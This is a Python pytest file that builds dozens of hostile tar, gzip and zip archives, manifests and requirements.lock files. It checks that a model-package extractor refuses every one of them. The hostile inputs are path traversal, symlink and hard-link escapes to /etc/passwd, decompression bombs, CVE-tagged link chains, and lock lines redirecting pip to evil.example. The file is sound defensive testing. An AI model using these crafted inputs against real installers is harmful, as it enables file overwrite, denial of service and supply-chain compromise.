"""Archives that must be refused: nothing outside the destination, the entry named, quickly, in little memory."""

import gzip
import hashlib
import io
import os
import subprocess
import sys
import tarfile
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from modelway.errors import InvalidPackageError, ModelwayError
from modelway.packaging import Limits, extract, read_manifest, verify

Case = tuple[Callable[[Any], Path], str]
CASES: dict[str, Case] = {}


def hostile(name: str, says: str) -> Callable[[Callable[[Any], Path]], Callable[[Any], Path]]:
    def keep(make: Callable[[Any], Path]) -> Callable[[Any], Path]:
        assert name not in CASES
        CASES[name] = (make, says)
        return make

    return keep


def add(name: str, says: str, make: Callable[[Any], Path]) -> None:
    hostile(name, says)(make)


# --- not a package at all


def gzip_of(data: bytes) -> bytes:
    return gzip.compress(data, 9)


def zip_of(name: str, data: bytes) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return target.getvalue()


def python_tar(*members: tuple[str, bytes, str]) -> bytes:
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for name, kind, link in members:
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, link
            archive.addfile(info)
    return target.getvalue()


add("empty file", "truncated before it", lambda forge: forge.raw(b""))
add("one zero block", "ends before it", lambda forge: forge.raw(bytes(512)))
add("random octets", "not a package", lambda forge: forge.raw(hashlib.shake_256(b"x").digest(5000)))
add("gzip", "a gzip file", lambda forge: forge.raw(gzip_of(b"hello")))
add("gzip bomb 1000:1", "a gzip file", lambda forge: forge.raw(gzip_of(bytes(64 * 1024 * 1024))))
add("zip", "a zip file", lambda forge: forge.raw(zip_of("../x", b"x")))
add("zip bomb", "a zip file", lambda forge: forge.raw(zip_of("x", bytes(16 * 1024 * 1024))))
add("script", "a script", lambda forge: forge.raw(b"#!/bin/sh\ntouch /tmp/x\n" + bytes(1000)))
add("program", "a program", lambda forge: forge.raw(b"\x7fELF" + bytes(2000)))
add("tar without manifest", "'code/x.py'", lambda forge: forge.raw(forge.entry(name=b"code/x.py").octets() + forge.end))
add("tar with '..' first", "leaves the package", lambda forge: forge.raw(python_tar(("../x", tarfile.REGTYPE, ""))))
add(
    "manifest is a link",
    "a symbolic link",
    lambda forge: forge.raw(forge.entry(name=b"manifest.json", kind=b"2", link=b"/etc/passwd").octets() + forge.end),
)
add(
    "manifest of 8 GiB",
    "at most 8388608",
    lambda forge: forge.raw(forge.entry(name=b"manifest.json", size=b"77777777777\0").octets() + forge.end),
)
add(
    "manifest of negative size",
    "manifest.json",
    lambda forge: forge.raw(forge.entry(name=b"manifest.json", size=b"\xff" * 12).octets() + forge.end),
)
add(
    "manifest cut",
    "truncated in it",
    lambda forge: forge.raw(forge.entry(name=b"manifest.json", data=b"{" * 4000).octets()[:2000]),
)

# --- a manifest that lies or costs


def with_manifest(text: bytes) -> Callable[[Any], Path]:
    return lambda forge: forge.archive([], manifest=text)


def changed(**changes: Any) -> Callable[[Any], Path]:
    return lambda forge: forge.archive([], manifest=forge.manifest([], **changes))


add("manifest is no JSON", "manifest.json", with_manifest(b"\xff\xfe{}"))
add("manifest is empty", "manifest.json", with_manifest(b""))
add("manifest 100,000 deep", "manifest.json", with_manifest(b"[" * 100_000 + b"]" * 100_000))
add("manifest of empty lists", "too large", with_manifest(b'{"format":1,"x":[' + b"[]," * 1_000_000 + b"[]]}"))
add(
    "manifest as costly as may be",
    "no golden example",
    lambda forge: forge.archive(
        [],
        manifest=forge.manifest([], examples=[], signature={"x": ["ROOM"]}).replace(
            b'"ROOM"', b"[]," * 470_000 + b"[]"
        ),
    ),
)
add("format of the future", "format 2", changed(format=2))
add("name with a path", "name", changed(name="../../x"))
add("version with a path", "version", changed(version="1/../.."))
add("handler that is code", "handler", changed(handler="os:system('x')"))
add("python that is an option", "python", changed(python="--index-url"))
add("no golden example", "no golden example", changed(examples=[]))
add("no files", "exactly one environment file", changed(files=[]))
add("other lock digest", "exactly one environment", changed(environment={"lock_sha256": "b" * 64, "packages": 1}))
add(
    "size as a text",
    "manifest.json",
    lambda forge: forge.archive([], [forge.listed("files/x", b"", size="0")]),
)
add("negative size", "not a valid size", lambda forge: forge.archive([], [forge.listed("files/x", b"", size=-512)]))
add("huge size", "bytes", lambda forge: forge.archive([], [forge.listed("files/x", b"", size=10**30)]))
add("size over the limit", "are allowed", lambda forge: forge.archive([], [forge.listed("files/x", b"", size=2**40)]))
add("digest with a path", "sha256", lambda forge: forge.archive([], [forge.listed("files/x", b"", sha256="../x")]))
add("unknown role", "role", lambda forge: forge.archive([], [forge.listed("files/x", b"", role="root")]))
add(
    "role lies elsewhere",
    "lies elsewhere",
    lambda forge: forge.archive([], [forge.listed("files/x", b"", role="code")]),
)


@hostile("60,000 entries", "at most 10000")
def many_entries(forge: Any) -> Path:
    files = [{"path": f"files/{n}", "size": 0, "sha256": "a" * 64, "role": "data"} for n in range(60_000)]
    return forge.archive([], manifest=forge.manifest(files).replace(b" ", b""))


# --- paths that are elsewhere, or another file on another system


def named(path: str) -> Callable[[Any], Path]:
    entry_name = path.encode(errors="surrogatepass")[:100]
    return lambda forge: forge.archive([forge.entry(name=entry_name, data=b"evil")], [forge.listed(path, b"evil")])


BAD_PATHS = {
    "parent": ("../evil", "leaves the package"),
    "parent inside": ("files/../../evil", "leaves the package"),
    "parent at the end": ("files/..", "leaves the package"),
    "absolute": ("/tmp/evil", "absolute"),
    "two slashes": ("//tmp/evil", "absolute"),
    "empty part": ("files//evil", "empty"),
    "dot part": ("files/./evil", "empty or '.'"),
    "no name": ("files/", "empty"),
    "empty path": ("", "empty"),
    "backslashes": ("files\\..\\..\\evil", "backslash"),
    "drive": ("C:/evil", "colon"),
    "alternate stream": ("files/x:evil", "colon"),
    "NUL": ("files/x\0/../../evil", "control"),
    "newline": ("files/x\n--index-url", "control"),
    "terminal escape": ("files/\x1b[2J", "control"),
    "right-to-left": ("files/\u202egnp.exe", "formatting"),
    "zero width": ("files/x\u200b", "formatting"),
    "not NFC": ("files/e\u0301", "normal form"),
    "trailing dot": ("files/x.", "dot"),
    "trailing space": ("files/x ", "space"),
    "long part": ("files/" + "x" * 101, "longer than 100"),
    "long path": ("files/" + "x/" * 200, "longer than 240"),
    "deep path": ("files/" + "/".join("x" * 40), "deep"),
    "split nowhere": ("files/" + "x" * 90 + "/" + "y" * 90 + "/" + "z" * 50, "tar header"),
    "elsewhere": ("etc/evil", "lies elsewhere"),
    "manifest again": ("manifest.json", "lies elsewhere"),
}
for _name, (_path, _says) in BAD_PATHS.items():
    add(f"path: {_name}", _says, named(_path))


@hostile("path: lone surrogate", "manifest.json")
def surrogate(forge: Any) -> Path:
    manifest = forge.manifest([forge.listed("files/x", b"")]).replace(b'"files/x"', b'"files/\\ud800"')
    return forge.archive([forge.entry(name=b"files/x")], manifest=manifest)


def both(first: str, second: str) -> Callable[[Any], Path]:
    return lambda forge: forge.archive(
        [forge.entry(name=first.encode(), data=b"one"), forge.entry(name=second.encode(), data=b"two")]
    )


add("duplicate", "same place", both("files/x", "files/x"))
add("case collision", "same place", both("files/Model", "files/model"))
add("sharp s collision", "same place", both("files/strasse", "files/stra\N{LATIN SMALL LETTER SHARP S}e"))
add("width collision", "same place", both("files/a", "files/\N{FULLWIDTH LATIN SMALL LETTER A}"))
add("ligature collision", "same place", both("files/fi", "files/\N{LATIN SMALL LIGATURE FI}"))
add("folder case collision", "same place", both("files/A/x", "files/a/y"))
add("file as a folder", "same place", both("files/a", "files/a/b"))
add("folder as a file", "a file and a folder", both("files/a/b", "files/a"))

# --- entries that are not what the manifest says


def instead(says_entry: str = "files/x", data: bytes = b"", **changes: Any) -> Callable[[Any], Path]:
    def make(forge: Any) -> Path:
        settings: dict[str, Any] = {"name": says_entry.encode(), "data": data} | changes
        return forge.archive([forge.entry(**settings)], [forge.listed(says_entry, data)])

    return make


add("symbolic link", "'files/x': a symbolic link", instead(kind=b"2", link=b"../../../evil"))
add("hard link", "'files/x': a hard link", instead(kind=b"1", link=b"/etc/passwd"))
add("character device", "a character device", instead(kind=b"3"))
add("block device", "a block device", instead(kind=b"4"))
add("folder entry", "a folder entry", instead(kind=b"5"))
add("FIFO", "a FIFO", instead(kind=b"6"))
add("sparse file", "a sparse file", instead(kind=b"S"))
add("GNU long name", "a GNU long name", instead(kind=b"L", name=b"././@LongLink", data=b"../../evil\0"))
add("pax path", "an extended (pax) header", instead(kind=b"x", data=b"20 path=../../evil1\n"))
add("pax global path", "a global (pax) header", instead(kind=b"g", data=b"20 path=../../evil1\n"))
add("old regular kind", "not the one", instead(kind=b"\0"))
add("contiguous kind", "not the one", instead(kind=b"7"))
add("unknown kind", "not the one", instead(kind=b"Z"))
add("set-uid", "not the one", instead(mode=b"0004755\0"))
add("world writable", "not the one", instead(mode=b"0000666\0"))
add("a time", "not the one", instead(mtime=b"14777777777\0"))
add("link name on a file", "not the one", instead(link=b"/etc/passwd"))
add("wrong checksum", "not the one", instead(checksum=b"000000\0 "))
add("NUL inside the name", "not the one", instead(name=b"files/x\0../../evil"))
add("another name", "'files/y': the manifest has 'files/x'", instead(name=b"files/y"))
add("parent in the header only", "'../../evil': the path leaves", instead(name=b"../../evil"))
add("absolute in the header only", "'/tmp/evil': the path is absolute", instead(name=b"/tmp/evil"))
add("prefix that leaves", "leaves", instead(name=b"x", prefix=b"../../.."))
add("octal without end", "declares", instead(size=b"777777777777"))
add("size in base 256, small", "not the one", instead(data=b"x", size=b"\x80" + bytes(10) + b"\x01"))
add("size negative in base 256", "declares", instead(size=b"\xff" * 12))
add("size not a number", "declares -1", instead(size=b"xxxxxxxxxxx\0"))
add("header larger than manifest", "declares 4096 bytes, the manifest 4", instead(data=b"evil", size=b"%011o\0" % 4096))


@hostile("manifest larger than header", "declares 4 bytes, the manifest 4096")
def manifest_larger(forge: Any) -> Path:
    return forge.archive([forge.entry(name=b"files/x", data=b"evil")], [forge.listed("files/x", b"evil", size=4096)])


@hostile("both larger than the archive", "'files/x'")
def both_larger(forge: Any) -> Path:
    entry = forge.entry(name=b"files/x", data=b"evil", size=b"%011o\0" % 2**30)
    return forge.archive([entry], [forge.listed("files/x", b"evil", size=2**30)])


@hostile("link, then write through it", "a symbolic link")
def link_then_write(forge: Any) -> Path:
    entries = [
        forge.entry(name=b"files/out", kind=b"2", link=b"../../.."),
        forge.entry(name=b"files/out/evil", data=b"evil"),
    ]
    return forge.archive(entries, [forge.listed("files/out/evil", b"evil")])


@hostile("chain of links beyond PATH_MAX", "a symbolic link")
def link_chain(forge: Any) -> Path:  # CVE-2025-4517: realpath gives up and the rest is not resolved
    long = b"d" * 90
    entries: list[Any] = []
    for depth in range(16):
        entries += [
            forge.entry(name=b"files/" + bytes([97 + depth]), kind=b"2", link=long),
        ]
    entries.append(forge.entry(name=b"files/" + b"a/" * 16 + b"evil", data=b"evil"))
    return forge.archive(entries, [forge.listed("files/x", b"evil")])


@hostile("link with an empty name", "a symbolic link")
def empty_link(forge: Any) -> Path:  # CVE-2026-7774
    return forge.archive([forge.entry(name=b"", kind=b"2", link=b"/etc")], [forge.listed("files/x", b"")])


@hostile("hard link to what a link leads to", "a hard link")
def hard_link_through(forge: Any) -> Path:  # CVE-2025-4330
    return forge.archive(
        [forge.entry(name=b"files/x", kind=b"1", link=b"code/../../../etc/passwd")], [forge.listed("files/x", b"")]
    )


@hostile("bad digest", "'files/x': its content is not what the manifest names")
def bad_digest(forge: Any) -> Path:
    return forge.archive([forge.entry(name=b"files/x", data=b"evil")], [forge.listed("files/x", b"good")])


@hostile("bad digest in the second megabyte", "'files/x': its content is not")
def bad_digest_late(forge: Any) -> Path:
    data = bytes(3 * 1024 * 1024)
    return forge.archive([forge.entry(name=b"files/x", data=data[:-1] + b"x")], [forge.listed("files/x", data)])


@hostile("hidden data in the padding", "'files/x': hidden data")
def padding(forge: Any) -> Path:
    return forge.archive([forge.entry(name=b"files/x", data=b"x", padding=b"evil" + bytes(507))])


@hostile("twice in the archive, once in the manifest", "'files/x': appears twice")
def twice(forge: Any) -> Path:
    entry = forge.entry(name=b"files/x", data=b"one")
    return forge.archive([entry, entry], [forge.listed("files/x", b"one")])


@hostile("one more than the manifest names", "'files/evil': the manifest does not name it")
def extra(forge: Any) -> Path:
    return forge.archive([], after=[forge.entry(name=b"files/evil", data=b"evil")])


@hostile("one fewer than the manifest names", "the manifest has 'files/x' in this place")
def fewer(forge: Any) -> Path:
    return forge.archive([], [forge.listed("files/x", b"x")])


@hostile("other order than the manifest", "the manifest has 'files/a' in this place")
def swapped(forge: Any) -> Path:
    entries = [forge.entry(name=b"files/b", data=b"x"), forge.entry(name=b"files/a", data=b"y")]
    return forge.archive(entries, [forge.listed("files/a", b"y"), forge.listed("files/b", b"x")])


add("trailing octets", "data follow", lambda forge: forge.archive([], end=forge.end + b"evil"))
add("trailing zeros", "data follow", lambda forge: forge.archive([], end=forge.end + bytes(10240)))
add("zip behind it (polyglot)", "data follow", lambda forge: forge.archive([], end=forge.end + zip_of("x", b"x")))
add(
    "second archive behind it",
    "data follow",
    lambda forge: forge.archive([], end=forge.end + python_tar(("../x", b"0", ""))),
)
add("no end", "truncated", lambda forge: forge.archive([], end=b""))
add("half an end", "truncated", lambda forge: forge.archive([], end=bytes(512)))
add("an end that is not zero", "does not end", lambda forge: forge.archive([], end=bytes(512) + b"x" * 512))


def cut(keep: Callable[[int], int]) -> Callable[[Any], Path]:
    def make(forge: Any) -> Path:
        path = forge.archive([forge.entry(name=b"files/x", data=b"x" * 2000)])
        data = path.read_bytes()
        return forge.raw(data[: keep(len(data))])

    return make


add("cut in the last octet", "truncated", cut(lambda size: size - 1))
add("cut in a content", "truncated", cut(lambda size: size - 1024 - 1024 - 512))
add("cut in a header", "truncated", cut(lambda size: size - 1024 - 1024 + 100))
add("cut after the manifest", "truncated", cut(lambda size: size - 1024 - 1024 - 512 - 2048))

# --- a lock that makes an installer do something else


def locked(text: bytes) -> Callable[[Any], Path]:
    return lambda forge: forge.archive([], lock=text)


HASH = b" \\\n    --hash=sha256:" + b"a" * 64
add("lock: index", "requirements.lock:1", locked(b"--index-url http://evil.example/simple\n"))
add(
    "lock: index behind a pin",
    "requirements.lock:3",
    locked(b"a==1" + HASH + b"\n--extra-index-url http://evil.example\n"),
)
add("lock: option on the pin", "requirements.lock:1", locked(b"a==1 --config-settings=x=y" + HASH + b"\n"))
add("lock: another file", "requirements.lock:1", locked(b"-r /etc/passwd\n"))
add("lock: editable", "requirements.lock:1", locked(b"-e .\n"))
add("lock: folder", "requirements.lock:1", locked(b"./code\n"))
add("lock: URL", "requirements.lock:1", locked(b"a @ http://evil.example/a.whl" + HASH + b"\n"))
add("lock: no hash", "requirements.lock:2", locked(b"a==1\nb==1" + HASH + b"\n"))
add("lock: no hash at the end", "requirements.lock", locked(b"a==1"))
add("lock: weak hash", "requirements.lock:2", locked(b"a==1 \\\n    --hash=md5:" + b"a" * 32 + b"\n"))
add("lock: not pinned", "requirements.lock:1", locked(b"a>=1" + HASH + b"\n"))
add("lock: remark that goes on", "requirements.lock:1", locked(b"# x \\\n--index-url http://evil.example\n"))
add("lock: other line ends", "requirements.lock:1", locked(b"# x\r--index-url http://evil.example\n"))
add("lock: form feed", "requirements.lock:1", locked(b"# x\x0c--index-url http://evil.example\n"))
add("lock: five megabytes", "longer than", locked(b"#" * 5 * 1024 * 1024))


def test_there_are_enough_of_them() -> None:
    assert len(CASES) >= 40


@pytest.mark.parametrize("name", CASES)
def test_refused(name: str, forge: Any, tmp_path: Path, snapshot: Callable[[Path], dict[str, str]]) -> None:
    make, says = CASES[name]
    archive = make(forge)
    (tmp_path / "home" / "unpacked").mkdir(parents=True)
    (tmp_path / "home" / "secret").write_text("canary")
    before = snapshot(tmp_path)
    start = time.process_time()  # what it costs, not what others on the machine do meanwhile
    with pytest.raises(InvalidPackageError) as refused:
        extract(archive, tmp_path / "home" / "unpacked" / "it", Limits())
    took = time.process_time() - start
    assert snapshot(tmp_path) == before
    assert says in refused.value.message
    assert refused.value.hint
    assert refused.value.message.isprintable()
    assert took < 2
    with pytest.raises(InvalidPackageError) as unverified:
        verify(archive)
    assert unverified.value.message == refused.value.message


def test_what_is_no_file_is_refused_without_waiting(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "fifo")
    for path in (tmp_path / "fifo", Path("/dev/zero"), tmp_path):
        with pytest.raises(InvalidPackageError, match="not a regular file"):
            read_manifest(path)
    with pytest.raises(ModelwayError, match="No such file"):
        read_manifest(tmp_path / "absent")


def test_memory_is_bounded_whatever_the_archive_says(forge: Any, tmp_path: Path) -> None:
    names = (
        "manifest of empty lists",
        "manifest as costly as may be",
        "60,000 entries",
        "manifest 100,000 deep",
        "gzip bomb 1000:1",
    )
    for name in names:
        make, _ = CASES[name]
        archive = make(forge)
        code = (
            "import sys\nfrom pathlib import Path\nfrom modelway.errors import InvalidPackageError\n"
            "from modelway.packaging import extract\n"
            "def peak():\n    status = Path('/proc/self/status').read_text()\n"
            "    return int(status.split('VmHWM:')[1].split()[0])\n"
            "before = peak()\n"
            "try:\n    extract(Path(sys.argv[1]), Path(sys.argv[2]))\n"
            "except InvalidPackageError:\n    print(peak() - before)\n"
        )
        command = [sys.executable, "-c", code, str(archive), str(tmp_path / "out")]
        done = subprocess.run(command, capture_output=True, text=True, check=True)
        assert int(done.stdout) < 64 * 1024, name  # kB


def test_limits_are_the_callers(forge: Any, tmp_path: Path) -> None:
    archive = forge.archive([forge.entry(name=b"files/x", data=b"x" * 100), forge.entry(name=b"files/y", data=b"y")])
    for limits, says in (
        (Limits(entries=2), "3 entries, at most 2"),
        (Limits(file_bytes=99), "'files/x': 100 bytes, at most 99"),
        (Limits(total_bytes=150), "bytes, at most 150"),
    ):
        with pytest.raises(InvalidPackageError, match=says):
            extract(archive, tmp_path / "it", limits)
    assert extract(archive, tmp_path / "it", Limits(entries=3)).name == "hello"
